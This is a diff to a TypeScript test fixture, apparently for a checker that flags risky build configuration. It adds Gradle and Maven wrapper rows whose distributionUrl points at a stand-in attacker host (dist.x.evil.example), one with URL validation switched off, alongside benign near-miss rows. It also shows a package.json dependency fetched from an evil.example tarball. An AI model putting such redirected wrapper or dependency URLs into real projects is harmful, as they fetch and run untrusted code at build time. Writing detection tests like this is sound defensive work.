@@ -8,6 +8,31 @@ const ROOT = '/home/dev/project';
 
 const ROWS: { note: string; file: string; content: string; asked: boolean }[] = [
   {
+    note: "the Gradle wrapper's distribution from another host",
+    file: 'gradle/wrapper/gradle-wrapper.properties',
+    content: 'distributionUrl=https\\://dist.x.evil.example/gradle-8.5-bin.zip\nvalidateDistributionUrl=false\n',
+    asked: true,
+  },
+  {
+    note: "near miss: the Gradle wrapper's distribution from Gradle",
+    file: 'gradle/wrapper/gradle-wrapper.properties',
+    content: 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\nnetworkTimeout=10000\n',
+    asked: false,
+  },
+  {
+    note: "the Maven wrapper's distribution outside a repository's layout",
+    file: '.mvn/wrapper/maven-wrapper.properties',
+    content: 'distributionUrl=https://dist.x.evil.example/apache-maven-3.9.6-bin.zip\n',
+    asked: true,
+  },
+  {
+    note: "near miss: the Maven wrapper's distribution from a mirror with the usual layout",
+    file: '.mvn/wrapper/maven-wrapper.properties',
+    content:
+      'distributionUrl=https://mirror.acme.example/maven2/org/apache/maven/apache-maven/3.9.6/apache-maven-3.9.6-bin.zip\n',
+    asked: false,
+  },
+  {
     note: 'package.json dependency from a tarball URL',
     file: 'package.json',
     content: '"dependencies": {\n    "utils": "https://x.evil.example/utils-1.0.0.tgz",',
